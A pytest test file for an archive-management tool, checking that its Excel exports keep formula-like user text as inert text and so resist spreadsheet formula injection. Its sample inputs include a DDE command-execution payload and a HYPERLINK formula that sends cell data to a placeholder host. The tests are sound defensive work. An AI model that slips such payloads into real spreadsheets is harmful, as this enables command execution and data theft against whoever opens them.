"""Every Excel the project writes keeps user text that looks like a formula as text (spreadsheet formula injection)."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from archivo.base import excel

PELIGROSOS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://ejemplo.invalid/?x="&A1,"clic")', "+1+1", "-2+3",
              "@SUM(1,2)", "\t=1+2", "\r=1+2"]


def _formulas(contenido: bytes) -> list[str]:
    """Every <f> (formula) element in every sheet of an .xlsx package."""
    with zipfile.ZipFile(io.BytesIO(contenido)) as z:
        return [f for nombre in z.namelist() if nombre.startswith("xl/worksheets/")
                for f in re.findall(r"<f[ >].*?</f>", z.read(nombre).decode("utf-8"))]


def test_el_ayudante_guarda_como_texto_lo_que_parece_formula() -> None:
    libro = Workbook()
    hoja = libro.active
    excel.agregar_fila(hoja, ["Texto", *PELIGROSOS])
    excel.agregar_fila(hoja, ["normal", 5, None, "a=b"])
    excel.celda(hoja, 5, 2, "=1+1")
    salida = io.BytesIO()
    libro.save(salida)
    assert _formulas(salida.getvalue()) == []
    leida = load_workbook(io.BytesIO(salida.getvalue())).active
    assert [c.value for c in leida[1]] == ["Texto", *PELIGROSOS]
    assert all(c.quotePrefix for c in leida[1][1:])  # Excel shows them as typed, and keeps them text if edited
    assert [c.value for c in leida[2]][:4] == ["normal", 5, None, "a=b"] and not leida[2][0].quotePrefix
    assert leida.cell(row=5, column=2).value == "=1+1"
    # without the helper openpyxl writes a live formula: the check above can fail
    libro = Workbook()
    libro.active.append(["=1+1"])
    salida = io.BytesIO()
    libro.save(salida)
    assert _formulas(salida.getvalue()) == ["<f>1+1</f>"]


@pytest.mark.parametrize("texto", PELIGROSOS[:3])
def test_riesgos_exportar_y_reporte_xlsx(cli, tmp_path: Path, texto: str) -> None:
    r = cli("riesgos", "alta", "--mecanismo", "incentivos", "--riesgo", texto, "--causas", "@causa",
            "--efectos", "-efecto")
    assert r.codigo == 0, r.todo
    assert cli("riesgos", "accion", "R-IN-01", "--descripcion", "=HYPERLINK(\"x\")", "--responsable", "+DEOE",
               "--compromiso", "2030-01-01").codigo == 0
    exportado = tmp_path / "registro.xlsx"
    assert cli("riesgos", "exportar", exportado).codigo == 0
    reporte = tmp_path / "reporte.xlsx"
    r = cli("riesgos", "reporte", "--formato", "xlsx", "--salida", reporte)
    assert r.codigo == 0, r.todo
    for archivo in (exportado, reporte):
        contenido = archivo.read_bytes()
        assert _formulas(contenido) == [], archivo.name
        valores = [c.value for hoja in load_workbook(io.BytesIO(contenido)).worksheets for fila in hoja.iter_rows()
                   for c in fila]
        assert any(isinstance(v, str) and texto in v for v in valores), archivo.name
    # and the register comes back from its own export unchanged (the text stays text)
    r = cli("riesgos", "importar", exportado)
    assert r.codigo == 0, r.todo
    r = cli("riesgos", "ver", "R-IN-01", "--formato", "json")
    assert texto in r.salida or texto.replace('"', '\\"') in r.salida


def test_formatos_de_padron_y_pat_sin_formulas(cli, tmp_path: Path) -> None:
    for args, nombre in ((["personal", "formato", "--salida"], "padron.xlsx"),
                         (["pat", "formato", "--salida"], "pat.xlsx")):
        destino = tmp_path / nombre
        r = cli(*args, destino)
        assert r.codigo == 0, r.todo
        assert _formulas(destino.read_bytes()) == []


def test_cuadro_de_clasificacion_exportado_sin_formulas(cli, tmp_path: Path) -> None:
    r = cli("archivistica", "cuadro", "alta", "--nivel", "serie", "--codigo", "SPEN.99", "--padre", "SPEN",
            "--nombre", '=HYPERLINK("http://ejemplo.invalid","clic")', "--descripcion", "@SUM(1,2)")
    assert r.codigo == 0, r.todo
    destino = tmp_path / "cuadro.xlsx"
    r = cli("archivistica", "cuadro", "exportar", destino)
    assert r.codigo == 0, r.todo
    contenido = destino.read_bytes()
    assert _formulas(contenido) == []
    valores = [c.value for hoja in load_workbook(io.BytesIO(contenido)).worksheets for fila in hoja.iter_rows()
               for c in fila]
    assert '=HYPERLINK("http://ejemplo.invalid","clic")' in valores and "@SUM(1,2)" in valores


def test_bitacora_de_correspondencia_sin_formulas(cli, tmp_path: Path) -> None:
    r = cli("correspondencia", "recibir", "--numero", "INE/DESPEN/1/2024", "--recibido", "2024-03-04 10:00",
            "--remitente", "+Instituto", "--asunto", '=HYPERLINK("http://ejemplo.invalid","clic")', "--plazo-dias", "5")
    assert r.codigo == 0, r.todo
    destino = tmp_path / "bitacora.xlsx"
    r = cli("correspondencia", "bitacora", "--desde", "2024-03-01", "--hasta", "2024-03-31", "--excel", destino)
    assert r.codigo == 0, r.todo
    contenido = destino.read_bytes()
    assert _formulas(contenido) == []
    valores = [c.value for hoja in load_workbook(io.BytesIO(contenido)).worksheets for fila in hoja.iter_rows()
               for c in fila]
    assert any(isinstance(v, str) and v.startswith('=HYPERLINK("http://ejemplo.invalid"') for v in valores)
